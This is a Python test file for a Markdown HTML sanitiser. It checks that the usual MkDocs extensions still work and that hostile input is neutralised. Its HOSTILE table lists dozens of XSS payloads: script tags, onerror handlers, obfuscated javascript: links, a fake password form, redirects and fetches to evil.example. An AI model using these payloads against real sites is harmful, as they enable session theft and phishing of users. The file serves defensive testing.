"""Bodies of documents keep what the usual extensions make, and nothing that runs, hides, covers or asks elsewhere."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown import Markdown

from mltrl_docs.markdown_safe import is_foreign, safe_id, sanitise

# What Material's own documentation recommends, with the settings that it recommends.
USUAL = [
    "abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc",
    "pymdownx.details", "pymdownx.highlight", "pymdownx.inlinehilite", "pymdownx.keys", "pymdownx.mark",
    "pymdownx.superfences", "pymdownx.tabbed", "pymdownx.tasklist", "pymdownx.tilde",
]  # fmt: skip
SETTINGS: dict[str, dict[str, Any]] = {
    "toc": {"permalink": True},
    "pymdownx.highlight": {"anchor_linenums": True, "line_spans": "__span"},
    "pymdownx.tabbed": {"alternate_style": True},
    "pymdownx.tasklist": {"custom_checkbox": True},
}


def converter(**options: Callable[[], object]) -> Markdown:
    # Ours stands first: it must not matter where a host lists it.
    settings = {**SETTINGS, "mltrl_docs.markdown_safe": options}
    return Markdown(extensions=["mltrl_docs.markdown_safe", *USUAL], extension_configs=settings)


def converted(text: str, **options: Callable[[], object]) -> str:
    return converter(**options).convert(text)


KEPT = {
    "an admonition": ('!!! note "Mind"\n    this', '<div class="admonition note">'),
    "an admonition's title": ('!!! note "Mind"\n    this', '<p class="admonition-title">Mind</p>'),
    "a collapsible block": ("??? tip\n    this", '<details class="tip">\n<summary>Tip</summary>'),
    "an open collapsible block": ("???+ tip\n    this", '<details class="tip" open="open">'),
    "a table": ("| a |\n|---|\n| b |", "<td>b</td>"),
    "the alignment of a column, as a class": ("| a |\n|--:|\n| b |", '<td class="mltrl-right">b</td>'),
    "highlighted code": ("``` python\nx = 1\n```", '<span class="mi">1</span>'),
    "a fenced block's title": ("``` { .py title='a.py' }\nx\n```", '<span class="filename">a.py</span>'),
    "anchors of code lines": ("``` python\nx\n```", 'id="__codelineno-0-1"'),
    "inline code": ("`<b>`", "<code>&lt;b&gt;</code>"),
    "a footnote": ("a[^1]\n\n[^1]: b", '<li id="fn:1">'),
    "the way back from a footnote": ("a[^1]\n\n[^1]: b", 'href="#fnref:1"'),
    "a task list": ("- [x] done", '<input type="checkbox" disabled="" checked="">'),
    "tabs": ('=== "A"\n    a\n=== "B"\n    b', '<input id="__tabbed_1_2" name="__tabbed_1" type="radio">'),
    "the labels of tabs": ('=== "A"\n    a\n=== "B"\n    b', '<label for="__tabbed_1_2">B</label>'),
    "a heading with its link": ("## Data", '<h2 id="data">Data<a class="headerlink" href="#data" title='),
    "an id of one's own": ("## Data {: #inputs }", '<h2 id="inputs">'),
    "an abbreviation": ("TRL\n\n*[TRL]: level", '<abbr title="level">TRL</abbr>'),
    "a definition list": ("a\n:   b", "<dd>b</dd>"),
    "a button": ("[a](b){ .md-button }", 'class="md-button"'),
    "keys and marks": ("++ctrl++ ==a== ~~b~~", "<mark>a</mark> <del>b</del>"),
    "an image beside the document": ('![a](b.svg "c")', '<img alt="a" src="b.svg" title="c">'),
    "a link to the web": ("[a](https://example.org/?b=c&d)", '<a href="https://example.org/?b=c&amp;d">a</a>'),
    "a mail address": ("<a@example.org>", '<a href="mailto:a@example.org">a@example.org</a>'),
    "harmless HTML": ("<figure markdown><figcaption>a</figcaption></figure>", "<figcaption>a</figcaption>"),
    "mathematics for a renderer": ('<span class="arithmatex">\\(x\\)</span>', '<span class="arithmatex">'),
}  # fmt: skip


@pytest.mark.parametrize(("text", "html"), KEPT.values(), ids=KEPT)
def test_it_keeps(text: str, html: str) -> None:
    assert html in converted(text)


# What a browser runs or fetches, however it is written; each must leave no trace in the tree of elements.
HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in a block": "a\n\n<div><script src=https://evil.example></script></div>\n\nb",
    "a script after a comment that ends oddly": "<!-- x --!><script>alert(1)</script>",
    "an image with a handler": "<img src=x onerror=alert(1)>",
    "a handler by attribute list": "text\n{: onclick=alert(1) }",
    "a handler by attribute list in a line": "*text*{: onmouseover='alert(1)' }",
    "a script as a link": "[a](javascript:alert(1))",
    "a script as a link, in another case": "[a](JaVaScRiPt:alert(1))",
    "a script as a link, with a tab in it": "<a href='java\tscript:alert(1)'>a</a>",
    "a script as a link, with the tab as an entity": "<a href='java&#9;script:alert(1)'>a</a>",
    "a script as a link, after a control character": "<a href='\x01javascript:alert(1)'>a</a>",
    "a script as a link, by entity": "<a href='&#106;avascript:alert(1)'>a</a>",
    "a script as a link, by attribute list": "[a](b){: href='javascript:alert(1)' }",
    "a script as a link, by reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "a script as an address in brackets": "<javascript:alert(1)>",
    "data as a link": "[a](data:text/html,<script>alert(1)</script>)",
    "another scheme": "[a](vbscript:msgbox)",
    "an embedded page": "<iframe src=https://evil.example></iframe>",
    "a page in an attribute": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a drawing with a script": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "a drawing in mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "an object": "<object data=x></object><embed src=x>",
    "a form": "<form action=https://evil.example><input name=password type=password><button>ok</button></form>",
    "a style sheet": "<style>@import 'https://evil.example'</style>",
    "a linked style sheet": "<link rel=stylesheet href=https://evil.example>",
    "a style that covers the page": "text\n{: style='position:fixed;inset:0' }",
    "another base for links": "<base href=https://evil.example>",
    "a redirect": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "an admonition's title": '!!! note "<script>alert(1)</script><img src=x onerror=alert(1)>"\n    a',
    "a heading": "## <img src=x onerror=alert(1)>",
    "a heading's label in the contents": "## a {: data-toc-label='<img src=x onerror=alert(1)>' }",
    "a footnote's text": "a[^1]\n\n[^1]: <svg onload=alert(1)>",
    "an abbreviation's meaning": 'TRL\n\n*[TRL]: "><img src=x onerror=alert(1)>',
    "a code block's title": "``` { .py title='<img src=x onerror=alert(1)>' }\nx\n```",
    "a code block's language": '``` "><img/src=x/onerror=alert(1)>\nx\n```',
    "a tab's name": '=== "<img src=x onerror=alert(1)>"\n    a',
    "an attribute that breaks out": "![a](b 'c\" onerror=alert(1) \"')",
    "an id that breaks out": "## a {: id='\"><img src=x onerror=alert(1)>' }",
    "markdown in HTML": "<div markdown onclick=alert(1)>\n*a*\n</div>",
    "a title that breaks out of its element": "<title></title><script>alert(1)</script>",
    "text that is not closed": "<textarea><script>alert(1)</script>",
    "a template": "<template><img src=x onerror=alert(1)></template>",
    "a sound": "<audio src=https://evil.example autoplay></audio><video poster=https://evil.example></video>",
    "an image from another host": "![a](https://evil.example/a.png)",
    "an image from the other end of two slashes": "<img src=//evil.example/a.png>",
    "an image from the other end of a backslash": "<img src='/\\evil.example/a.png'>",
    "an image by a set of sources": "<img srcset='https://evil.example/a.png 2x' src=b.png>",
    "a background": "<table background=https://evil.example/a.png><tr><td>a</table>",
    "what is asked when a link is followed": "<a href=b ping=https://evil.example>a</a>",
}

LIVING = frozenset(
    {
        "audio", "base", "button", "embed", "form", "iframe", "link", "math", "meta", "object", "script", "style",
        "svg", "template", "textarea", "video",
    }
)  # fmt: skip

HARMLESS_ATTRIBUTES = frozenset(
    {
        "alt", "checked", "class", "disabled", "for", "href", "id", "name", "open", "src", "title", "type",
        "colspan", "rowspan", "scope", "start", "width", "height", "loading", "dir", "lang", "value", "reversed",
        "datetime",
    }
)  # fmt: skip


def elements(html: str) -> list[Any]:
    return list(html5lib.parseFragment(html, namespaceHTMLElements=False).iter())


def assert_inert(html: str) -> None:
    for element in elements(html):
        assert element.tag not in LIVING, html
        assert set(element.attrib) <= HARMLESS_ATTRIBUTES, html
        assert not is_foreign(element.get("src", "")), html
        link = re.sub(r"[\t\n\r]", "", element.get("href", "")).lstrip("".join(map(chr, range(0x21))))
        assert re.match(r"(?:https?:|mailto:)", link) or not re.match(r"[a-zA-Z][a-zA-Z0-9+.-]*:", link), html
        if element.tag == "input":
            assert element.get("type") in {"checkbox", "radio", None}, html


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_it_takes_the_life_out_of(text: str) -> None:
    assert_inert(converted(text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_contents_repeat_no_life_of(text: str) -> None:
    md: Any = converter()
    md.convert(f"{text}\n\n## Last\n")
    pending = list(md.toc_tokens)
    while pending:
        token = pending.pop()
        pending += token["children"]
        assert "<" not in token["name"]
        assert safe_id(token["id"]) == token["id"]


PIECES = [
    "<", ">", '"', "'", "&", "/", "=", " ", "\n", "#", "[", "]", "(", ")", ":", "{", "}", "!", "`", "\\", "--", "a",
    "img", "src", "onerror", "script", "svg", "style", "javascript", "x",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_string_of_pieces_comes_to_life(text: str) -> None:
    assert_inert(converted(text))


@given(st.text(max_size=60))
def test_what_is_clean_stays_as_it_is(text: str) -> None:
    once = sanitise(text)
    assert sanitise(once) == once


def test_an_image_of_another_host_becomes_a_link_to_it() -> None:
    assert converted("![The plot](https://example.org/a.png)") == (
        '<p><a href="https://example.org/a.png">The plot</a></p>'
    )


def test_a_linked_image_of_another_host_becomes_the_link_s_text() -> None:
    assert converted("[![state](https://ci.example/a.svg)](https://ci.example)") == (
        '<p><a href="https://ci.example"><span>state</span></a></p>'
    )


@pytest.mark.parametrize("name", ["__search", "__drawer", "__toc", "__palette_0", "__nav_1", "__config"])
def test_no_element_passes_for_one_of_the_theme(name: str) -> None:
    html = converted(f"## a {{: #{name} }}\n\n<p id='{name}'>b</p>\n\n<label for='{name}'>c</label>")
    assert name not in html
    assert '<h2 id="a">' in html


@pytest.mark.parametrize("name", ["md-overlay", "md-dialog--active", "mltrl-chip", "mltrl", "mermaid"])
def test_no_class_of_the_theme_s_frame_or_of_our_marks_is_left(name: str) -> None:
    assert converted(f"<div class='{name} plain'>a</div>") == '<div class="plain">a</div>'


def test_a_heading_keeps_off_the_ids_of_the_page_around_it() -> None:
    html = converted("## Parts\n\n## Parts\n\n## Data {: #next }\n", taken=lambda: {"parts", "next"})
    assert re.findall(r'<h2 id="([^"]+)"', html) == ["parts-text", "parts-text_1", "data"]


def test_it_leaves_pages_alone_that_it_does_not_apply_to() -> None:
    html = "<iframe src=https://video.example></iframe>"
    assert converted(html, applies=lambda: False) == html


def test_one_instance_can_convert_page_after_page() -> None:
    authors = [True]
    md = converter(applies=lambda: authors[0], taken=lambda: {"parts"})
    first = md.convert("## Parts")
    authors[0] = False
    assert md.reset().convert("<b onclick='f()'>a</b>") == "<p><b onclick='f()'>a</b></p>"
    authors[0] = True
    assert md.reset().convert("## Parts") == first
